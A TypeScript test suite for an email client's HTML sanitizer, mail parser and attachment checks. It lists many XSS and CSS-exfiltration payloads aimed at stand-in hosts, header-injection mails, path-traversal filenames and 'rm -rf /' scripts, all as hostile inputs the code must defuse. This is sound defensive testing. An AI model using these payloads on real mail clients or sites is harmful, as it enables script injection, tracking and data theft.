import { describe, expect, test } from "vitest";
import { isAllowedFile } from "../file-rules.ts";
import { letter } from "../test-support/letter.ts";
import { readMail } from "./read-mail.ts";
import { htmlOfText, safeHtml, textOf, withoutRooms } from "./safe-html.ts";

/** Nothing that runs, loads, submits or frames, whatever it is called. */
function expectHarmless(html: string): void {
	const tags = [...html.matchAll(/<\/?([a-z][^\s/>]*)([^>]*)>/gi)];
	const names = new Set(tags.map(([, name = ""]) => name.toLowerCase()));
	for (const bad of "dialog marquee image select script style iframe frame object embed form input button textarea select svg math link meta base template audio video source portal body html head applet".split(
		" ",
	))
		expect(names, html).not.toContain(bad);
	for (const [, name, attributes = ""] of tags) {
		expect(attributes, html).not.toMatch(/(?:^|\s)on[a-z]+\s*=/i);
		expect(attributes, html).not.toMatch(/(?:javascript|vbscript|data|file|blob)\s*:/i);
		expect(attributes, html).not.toMatch(
			/(?:url|src|image-set|attr|var)\s*\(|expression\s*\(|@import|position\s*:|-moz-binding|behavior\s*:/i,
		);
		expect(attributes, html).not.toMatch(
			/\s(?:srcset|background|poster|ping|attributionsrc|download|autofocus|contenteditable|popover|shadowrootmode|tabindex|formaction|srcdoc|id|class|name|action|usemap|dynsrc|lowsrc|xlink:href)\s*=/i,
		);
		if (name === "img") expect(attributes, html).not.toMatch(/src\s*=\s*"(?!cid:)|data-remote="(?!\d+")/i);
	}
}

const pages: Record<string, string> = {
	"a script for one program's eyes": "<p>x</p><!--[if mso]><script>alert(1)</script><![endif]-->",
	"markup in CDATA": "<p>x</p><![CDATA[<img src=x onerror=alert(1)>]]>",
	"plaintext, behind which nothing ends": "<p>x</p><plaintext><script>alert(1)</script>",
	"a picture that closes its room": '<p>x</p><img src="https://spy.test/&quot; onerror=alert(1) x=&quot;">',
	"a picture with backslashes": '<p>x</p><img src="https:\\\\spy.test\\a.gif">',
	"a picture that brings a page": '<p>x</p><img src="data:image/svg+xml,<svg onload=alert(1)>">',
	"a link whose scheme is a script's": '<p>x</p><a href="https:javascript:alert(1)">a</a>',
	"a link to the top of everything": '<p>x</p><a href="//spy.test" target="_top" rel="opener">a</a>',
	"a room for a picture that was never named": '<p>x</p><img data-remote="0" src="cid:a" data-remote=\'"><script>\'>',
	"an attribute in an attribute's name":
		'<p>x</p><div title="a" title=\'"onclick="alert(1)\' onclick\u2028="alert(1)">y</div>',
	"a script": "<p>x</p><script>alert(1)</script>",
	"a script in capitals with a space": "<p>x</p><SCRIPT >alert(1)</SCRIPT >",
	"a script that is not closed": "<p>x</p><script>alert(1)",
	"a script within a script": "<p>x</p><scr<script>ipt>alert(1)</scr</script>ipt>",
	"an event of a picture": '<p>x</p><img src=x onerror="alert(1)">',
	"an event behind a slash": "<p>x</p><img/src=x/onerror=alert(1)>",
	"an event with a newline": '<p>x</p><a href="https://a.test" onmouse\nover="alert(1)">a</a>',
	"an event in an unclosed tag": '<p>x</p><img src="x" onerror="alert(1)"',
	"an event of details": "<p>x</p><details open ontoggle=alert(1)>d</details>",
	"a script in svg": "<p>x</p><svg><script>alert(1)</script></svg>",
	"an event of svg": "<p>x</p><svg onload=alert(1)><circle/></svg>",
	"svg with a foreign object": "<p>x</p><svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
	"math that turns into a script":
		"<p>x</p><math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
	"noscript with an attribute that closes it":
		'<p>x</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	"a title that closes itself": "<p>x</p><title></title><img src=x onerror=alert(1)></title>",
	"a textarea that closes itself": "<p>x</p><textarea></textarea><img src=x onerror=alert(1)></textarea>",
	"a template": "<p>x</p><template><img src=x onerror=alert(1)></template>",
	"a link with javascript": '<p>x</p><a href="javascript:alert(1)">a</a>',
	"a link with javascript behind a tab": '<p>x</p><a href="java\tscript:alert(1)">a</a>',
	"a link with javascript in entities": '<p>x</p><a href="&#106;avascript&colon;alert(1)">a</a>',
	"a link with javascript behind controls": '<p>x</p><a href="\u0001\u0002javascript:alert(1)">a</a>',
	"a link with vbscript": '<p>x</p><a href="vbscript:msgbox(1)">a</a>',
	"a link with a page in it": '<p>x</p><a href="data:text/html,<script>alert(1)</script>">a</a>',
	"a link to a file": '<p>x</p><a href="file:///etc/passwd">a</a>',
	"a link that pings": '<p>x</p><a href="https://a.test" ping="https://spy.test">a</a>',
	"a form": '<p>x</p><form action="https://spy.test"><input name=password><button>Go</button></form>',
	"a button that submits elsewhere": '<p>x</p><button formaction="https://spy.test">Go</button>',
	"a frame": '<p>x</p><iframe src="https://spy.test"></iframe>',
	"a frame with a page in it": '<p>x</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
	"an object": '<p>x</p><object data="https://spy.test/x.swf"></object>',
	"an embed": '<p>x</p><embed src="https://spy.test/x.swf">',
	"a base that moves links": '<base href="https://spy.test/"><p>x</p><a href="login">a</a>',
	"a meta that leads away": '<meta http-equiv=refresh content="0;url=https://spy.test"><p>x</p>',
	"a style sheet somewhere else": '<link rel=stylesheet href="https://spy.test/a.css"><p>x</p>',
	"a style that reads what is typed": "<style>input[value^=a]{background:url(https://spy.test/a)}</style><p>x</p>",
	"a style that imports": "<style>@import url(https://spy.test/a.css);</style><p>x</p>",
	"an attribute with a url in its style": '<p style="background:url(https://spy.test/a)">x</p>',
	"an attribute with an escaped url": '<p style="background:\\75rl(https://spy.test/a)">x</p>',
	"an attribute with an expression": '<p style="width:expression(alert(1))">x</p>',
	"a text that covers the page":
		'<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9">x</div>',
	"a list with a picture": '<ul style="list-style:url(https://spy.test/a)"><li>x</li></ul>',
	"a picture somewhere else": '<p>x</p><img src="https://spy.test/pixel.gif" width=1 height=1 alt=pixel>',
	"a picture without a scheme": '<p>x</p><img src="//spy.test/pixel.gif" alt=pixel>',
	"pictures of several sizes": '<p>x</p><img srcset="https://spy.test/a 1x, https://spy.test/b 2x" alt=a>',
	"a picture with a page in it": '<p>x</p><img src="data:image/svg+xml,<svg onload=alert(1)>" alt=a>',
	"a table with a background":
		'<table background="https://spy.test/a"><tr><td background="https://spy.test/b">x</td></tr></table>',
	"a video with a poster": '<p>x</p><video poster="https://spy.test/a" src="https://spy.test/b"></video>',
	"names that shadow the page's own": '<p id="getElementById" name="cookie" class="inlay-button">x</p>',
	"a comment for one browser": "<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>",
	"a comment that closes early": "<p>x</p><!--><img src=x onerror=alert(1)>-->",
	CDATA: "<p>x</p><![CDATA[<script>alert(1)</script>]]>",
	"a tag with a NUL": "<p>x</p><scr\0ipt>alert(1)</scr\0ipt>",
	"an attribute that is not closed": `<p>x</p><a href="https://a.test title='><img src=x onerror=alert(1)>'>a</a>`,
	"back quotes for quotes": "<p>x</p><img src=`x`onerror=alert(1) alt=a>",
	"a namespace that changes what a style is": '<p>x</p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
	"an annotation that is HTML in math":
		'<p>x</p><math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
	"a form that closes another one":
		"<p>x</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
	"a select that lets a script out": "<p>x</p><select><template><style></select><img src=x onerror=alert(1)></style>",
	"a style that reads attributes":
		"<style>p::after{content:attr(title);background:image-set('https://spy.test/a' 1x)}</style><p title=s>x</p>",
	"a font that is loaded by letters":
		"<style>@font-face{font-family:a;src:url(https://spy.test/a);unicode-range:U+0041}</style><p style=font-family:a>x</p>",
	"a value that holds an address":
		"<p style=\"--a:url(https://spy.test/a);cursor:image-set('https://spy.test/b' 1x)\">x</p>",
	"a colour that is an address":
		'<p style="color:src(https://spy.test/a);background-color:var(--a,url(https://spy.test))">x</p>',
	"a link that tells of its click":
		'<p>x</p><a href="https://a.test" attributionsrc="https://spy.test" download="a.exe">a</a>',
	"a text that takes the focus": "<p>x</p><div contenteditable autofocus onfocus=alert(1) tabindex=0>y</div>",
	"a dialog that stands above":
		"<p>x</p><dialog open><button popovertarget=a>Go</button></dialog><div popover id=a>y</div>",
	"a marquee with an event": "<p>x</p><marquee onstart=alert(1)>y</marquee>",
	"an SVG picture by another name": '<p>x</p><image xlink:href="https://spy.test/a" href="javascript:alert(1)">',
	"a shadow root of its own": '<p>x</p><div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
	"ten thousand tags within each other": `${"<div>".repeat(10_000)}<p>x</p>`,
	"half a megabyte of one attribute": `<p title="${"a".repeat(500_000)}">x</p>`,
	"a hundred thousand angle brackets": `<p>x</p>${"<".repeat(100_000)}`,
};

describe("HTML that was made to do harm shows its text and does nothing", () => {
	test.each(Object.entries(pages))("%s", (_name, page) => {
		const { html } = safeHtml(page);
		expectHarmless(html);
		expect(textOf(html)).toContain("x");
		expectHarmless(safeHtml(html).html);
	});

	test("a picture that came with the mail is shown; that there were others is told", () => {
		expect(safeHtml('<img src="cid:a@b">')).toEqual({
			html: '<img src="cid:a@b" alt="" />',
			hasRemote: false,
			remote: [],
		});
		expect(safeHtml('<p>x</p><img src="https://spy.test/a.gif">')).toEqual({
			...{ html: '<p>x</p><img data-remote="0" alt="" />', hasRemote: true, remote: ["https://spy.test/a.gif"] },
		});
		// Whoever writes the attribute himself leaves no room, and leads nowhere.
		const forged = safeHtml('<p data-remote="0">x</p><img data-remote="7" src="//SPY.test/b c.gif" alt="b">');
		expect(forged).toEqual({
			...{ html: '<p>x</p><img data-remote="0" alt="b" />', hasRemote: true, remote: ["https://SPY.test/b%20c.gif"] },
		});
		expect(withoutRooms('<p>x</p><img data-remote="0" alt="" width="1" /><img data-remote="1" alt="a" />')).toBe(
			'<p>x</p><img alt="a" />',
		);
	});

	test("a picture whose address has a space in it was not there, as browsers read it", () => {
		const of = (src: string) => safeHtml(`<img src="${src}" alt="a">`).remote;
		expect(of(" HTTPS://a.test/my picture.png\n")).toEqual(["https://a.test/my%20picture.png"]);
		expect(of("https:\n//a.test/a.png")).toEqual(["https://a.test/a.png"]);
		for (const none of ["https:a.png", "//", "ftp://a.test/a.png", "/a.png"]) expect(of(none), none).toEqual([]);
	});

	test("two hundred thousand spaces in a link held everybody up for minutes", () => {
		const { user } = process.cpuUsage();
		for (const space of ["\u00a0", " ", "a.", "\u00a0."])
			safeHtml(`<a href="https://a.test/">${space.repeat(200_000 / space.length)}!</a>`);
		expect((process.cpuUsage().user - user) / 1000).toBeLessThan(5_000);
	});

	test("a link whose text is another address than where it leads says where it leads", () => {
		const link = (href: string, text: string) => safeHtml(`<a href="${href}">${text}</a>`).html;
		expect(link("https://evil.test/login", "https://bank.example/login")).toContain("[evil.test]");
		expect(link("https://bank.example@evil.test/", "bank.example")).toContain("[evil.test]");
		expect(link("https://www.bank.example/a", "bank.example")).not.toContain("[");
		expect(link("https://evil.test/", "Click here")).not.toContain("[");
		// Bold, in pieces, or with letters that nobody sees, it was taken for words.
		expect(link("https://evil.test/", "<b>https://bank.example</b>")).toContain("</a> <small>[evil.test]");
		expect(link("https://evil.test/", "bank<i></i>.example")).toContain("[evil.test]");
		expect(link("https://evil.test/", "bank.exa&#8203;mple")).toContain("[evil.test]");
		expect(link("https://bank.example/", "<b>www.bank.example</b>")).not.toContain("[");
		expect(link("https://bank.example/", "bank.exa&shy;mple")).not.toContain("[");
	});

	test("colours, weight and alignment stay; a page that is written in names of colours does not", () => {
		const { html } = safeHtml('<td style="color:#c00;font-weight:bold;text-align:center;width:50%;height:1px">x</td>');
		expect(html).toBe('<td style="color:#c00;font-weight:bold;text-align:center;width:50%">x</td>');
	});
});

const binary = (text: string) => Buffer.from(text, "latin1");

describe("mails that were made to do harm, or by programs that knew no better", () => {
	test.each<[string, string | Buffer, Record<string, unknown>]>([
		[
			"a header in the subject",
			letter({ Subject: "=?utf-8?Q?Hi=0D=0ABcc:_all@spy.test?=" }, "x"),
			{ subject: "Hi Bcc: all@spy.test" },
		],
		[
			"a header in a name",
			letter({ From: '"Eve\\\r\n Bcc: all@spy.test" <eve@evil.test>' }, "x"),
			{ from: { email: "eve@evil.test", name: expect.not.stringMatching(/[\r\n]/) } },
		],
		[
			"a name that is somebody else's address",
			letter({ From: '"boss@shop.example" <eve@evil.test>' }, "x"),
			{ from: { email: "eve@evil.test", name: "boss@shop.example" } },
		],
		["a sender who is none", letter({ From: "undisclosed" }, "x"), { from: { email: "carol@customer.test" } }],
		["no headers at all", "\r\nx\r\n", { subject: "", from: { email: "carol@customer.test" } }],
		["an empty mail", "", { subject: "", text: "" }],
		[
			"letters that turn the direction",
			letter({ Subject: "invoice \u202Efdp.exe" }, "x"),
			{ subject: "invoice fdp.exe" },
		],
		["letters that nobody sees", letter({ Subject: "pay\u200Bpal\u2060" }, "x"), { subject: "paypal" }],
		["a subject of 100,000 letters", letter({ Subject: "a".repeat(100_000) }, "x"), { subject: "a".repeat(500) }],
		[
			"five thousand recipients",
			letter({ To: Array.from({ length: 5000 }, (_, n) => `p${n}@a.test`).join(", ") }, "x"),
			{ to: expect.objectContaining({ length: 500 }) },
		],
		[
			"five thousand references",
			letter({ References: Array.from({ length: 5000 }, (_, n) => `<${n}@a.test>`).join(" ") }, "x"),
			{ references: expect.objectContaining({ length: 100 }) },
		],
		["a message id that is none", letter({ "Message-ID": "not an id" }, "x"), { text: expect.stringContaining("x") }],
		[
			"EM-13 ISO-2022-JP",
			Buffer.concat([
				binary(
					letter({ Subject: "=?ISO-2022-JP?B?GyRCJUYlOSVIGyhC?=" }, "", "text/plain; charset=ISO-2022-JP").trimEnd(),
				),
				binary("\r\n\r\n\x1b$B%F%9%H\x1b(B\r\n"),
			]),
			{ subject: "テスト", text: expect.stringContaining("テスト") },
		],
		[
			"EM-13 windows-1252",
			Buffer.concat([
				binary(letter({}, "", "text/plain; charset=windows-1252").trimEnd()),
				Buffer.from("\r\n\r\n\x93Smart\x94 \x80\r\n", "latin1"),
			]),
			{ text: expect.stringContaining("“Smart” €") },
		],
		[
			"a charset that does not exist",
			letter({}, "Hello", "text/plain; charset=klingon-8"),
			{ text: expect.stringContaining("Hello") },
		],
		[
			"UTF-8 that is none",
			Buffer.concat([
				binary(letter({}, "", "text/plain; charset=utf-8").trimEnd()),
				Buffer.from([13, 10, 13, 10, 0xff, 0xfe, 0x41]),
			]),
			{ text: expect.stringContaining("A") },
		],
		[
			"UTF-7, in which a script hides",
			letter({}, "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7"),
			{ hasRemote: false },
		],
		[
			"a part that is never closed",
			letter({}, "--b\nContent-Type: text/html\n\n<p>x</p><script>alert(1)", 'multipart/alternative; boundary="b"'),
			{ html: "<p>x</p>" },
		],
		["a boundary that is not there", letter({}, "x", "multipart/mixed"), { subject: "Where is my order?" }],
		[
			"HTML that calls itself text",
			letter({}, "<script>alert(1)</script>", "text/plain"),
			{ text: expect.stringContaining("<script>") },
		],
		[
			"base64 that is broken",
			letter({ "Content-Transfer-Encoding": "base64" }, "%%%=A"),
			{ subject: "Where is my order?" },
		],
	])("%s", async (_name, raw, wanted) => {
		const mail = await readMail(Buffer.from(raw), "carol@customer.test");
		expect(mail).toMatchObject(wanted);
		if (mail.html !== undefined) expectHarmless(mail.html);
	});

	test("parts within parts within parts are refused, and mails within mails stay files", async () => {
		const nested = Array.from(
			{ length: 60 },
			(_, n) => `--b${n}\nContent-Type: multipart/mixed; boundary=b${n + 1}\n`,
		).join("\n");
		await expect(
			readMail(Buffer.from(letter({}, nested, "multipart/mixed; boundary=b0")), "a@b.test"),
		).rejects.toThrow();
		const inner = letter({ Subject: "Inner" }, "<script>alert(1)</script>", "text/html");
		const outer = letter({}, `--b\nContent-Type: message/rfc822\n\n${inner}\n--b--`, "multipart/mixed; boundary=b");
		const mail = await readMail(Buffer.from(outer), "a@b.test");
		expect(mail.files).toMatchObject([{ contentType: "message/rfc822", name: "mail-1.eml" }]);
		expect(mail.html).toBeUndefined();
	});

	test("headers of a megabyte are refused", async () => {
		const raw = letter(Object.fromEntries(Array.from({ length: 2000 }, (_, n) => [`X-${n}`, "a".repeat(500)])), "x");
		await expect(readMail(Buffer.from(raw), "a@b.test")).rejects.toThrow();
	});

	test.each<[string, string, string | Buffer, boolean]>([
		["a program that is called a PDF", "invoice.pdf", "MZ\x90\0", false],
		["a program with two endings", "invoice.pdf.exe", "x", false],
		["an ending with a dot behind it", "run.bat.", "x", false],
		["a script by its first letters", "notes.txt", "#!/bin/sh\nrm -rf /", false],
		["a shortcut", "readme.lnk", "x", false],
		["macros", "list.xlsm", "x", false],
		["a ZIP file with a program in it", "photos.zip", zipOf("holiday.jpg", "setup.exe"), false],
		["a page that is called a ZIP file", "page.zip", "<html><script>", false],
		["a ZIP file with pictures", "photos.zip", zipOf("a.jpg", "b.png"), true],
		["a ZIP file that is cut off", "photos.zip", zipOf("a.jpg").subarray(0, 30), false],
		["a byte before a ZIP file with a program", "photos.zip", Buffer.concat([Buffer.from("x"), zipOf("a.exe")]), false],
		[
			"PK\\0\\0 before a ZIP file with a program",
			"a.pdf",
			Buffer.concat([Buffer.from("PK\0\0"), zipOf("a.exe")]),
			false,
		],
		["the end of a ZIP file in the comment of another", "photos.zip", commented(zipOf("a.exe"), zipOf()), false],
		[
			"the end of a ZIP file in the comment of one with pictures",
			"photos.zip",
			commented(zipOf("a.png"), zipOf()),
			true,
		],
		["a program in a ZIP file, its ending far behind", "photos.zip", zipOf(`a.exe${" ".repeat(300)}`), false],
		["a ZIP file with nothing in it", "photos.zip", zipOf(), true],
		["a script after a byte order mark", "notes.txt", "\xef\xbb\xbf#!/bin/sh\nrm -rf /", false],
		["a page that is called a letter of Word", "letter.docx", "<html><script>", false],
		["a letter of Word with a password", "letter.docx", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", true],
		[
			"a table of Excel that knows its printer",
			"t.xlsx",
			zipOf("xl/a.xml", "xl/printerSettings/printerSettings1.bin"),
			true,
		],
		["a table of Excel with macros in it", "t.xlsx", zipOf("xl/workbook.xml", "xl/vbaProject.bin"), false],
		["a PDF", "invoice.pdf", "%PDF-1.7", true],
		["a letter of the older Word", "letter.doc", older("WordDocument"), true],
		["macros in a table of the older Excel", "list.xls", older("Workbook", "_VBA_PROJECT"), false],
		["macros in one whose name says otherwise", "list.pdf", older("_VBA_PROJECT"), false],
		["a program behind a picture in a letter of the older Word", "letter.doc", older("\u0001Ole10Native"), false],
		["a program's name beside the one of a picture in a ZIP file", "a.zip", renamed(zipOf("a.jpg"), "a.exe"), false],
		["a picture's name in letters of every language in a ZIP file", "a.zip", renamed(zipOf("a.jpg"), "ä.jpg"), true],
	])("a file: %s", (_name, name, content, allowed) => {
		expect(isAllowedFile(name, Buffer.from(content as string, "latin1"))).toBe(allowed);
	});

	test("a file's name is only ever a name", async () => {
		const named = async (name: string) => {
			const part = `--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="${name}"\n\nx\n--b--`;
			const mail = await readMail(Buffer.from(letter({}, part, "multipart/mixed; boundary=b")), "a@b.test");
			return mail.files[0]?.name;
		};
		expect(await named("../../etc/passwd")).toBe("passwd");
		expect(await named("C:\\\\Windows\\\\run.txt")).toBe("run.txt");
		expect(await named("..")).toBe("file");
		expect(await named(`${"a".repeat(400)}.txt`)).toHaveLength(150);
		expect(await named("photo\u202Egnp.exe")).toBe("photognp.exe");
	});

	test("what was written as text shows as text", () => {
		expect(htmlOfText("<script>alert(1)</script> see https://a.test/x.")).toBe(
			'<div>&lt;script&gt;alert(1)&lt;/script&gt; see <a href="https://a.test/x">https://a.test/x</a>.</div>',
		);
	});
});

/** A ZIP file's central directory, with empty files of these names. */
function zipOf(...names: string[]): Buffer {
	const entries = names.map((name) => {
		const entry = Buffer.alloc(46);
		entry.writeUInt32LE(0x02014b50, 0);
		entry.writeUInt16LE(name.length, 28);
		return Buffer.concat([entry, Buffer.from(name)]);
	});
	const start = Buffer.from("PK\x03\x04");
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(names.length, 10);
	end.writeUInt32LE(start.length, 16);
	return Buffer.concat([start, ...entries, end]);
}

/** A file of the older Office, as far as its directory's names go. */
function older(...names: string[]): Buffer {
	return Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.from(names.join("\0").concat("\0"), "utf16le")]);
}

/** Its only entry has another name beside its own (0x7075). */
function renamed(zip: Buffer, name: string): Buffer {
	const bytes = Buffer.from(name);
	const extra = Buffer.alloc(9);
	extra.writeUInt16LE(0x7075, 0);
	extra.writeUInt16LE(5 + bytes.length, 2);
	extra[4] = 1;
	const entryEnd = zip.length - 22;
	const whole = Buffer.concat([zip.subarray(0, entryEnd), extra, bytes, zip.subarray(entryEnd)]);
	whole.writeUInt16LE(extra.length + bytes.length, 4 + 30);
	return whole;
}

function commented(zip: Buffer, comment: Buffer): Buffer {
	const whole = Buffer.concat([zip, comment]);
	whole.writeUInt16LE(comment.length, zip.length - 2);
	return whole;
}
